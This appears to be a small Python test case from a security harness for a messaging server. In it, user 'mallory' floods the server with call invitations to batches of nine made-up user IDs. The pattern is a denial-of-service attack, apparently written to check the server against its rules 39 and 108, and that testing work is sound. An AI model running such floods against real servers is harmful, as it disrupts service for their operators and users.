"""People who never existed are called, nine at a time, each name once."""

from blows import flood, message
from registry import Attack

ATTACK = Attack(aims_at="users that the server has heard of", rules=(39, 108))


def attack(scene):
    numbers = iter(range(10**9))

    def more():
        return b"".join(message(
            "call.invite", mode="common", timeout_ms=1_000,
            invitees=[f"{next(numbers)}-".ljust(64, "n") for _ in range(9)]) for _ in range(4))

    flood(scene, "mallory", more)
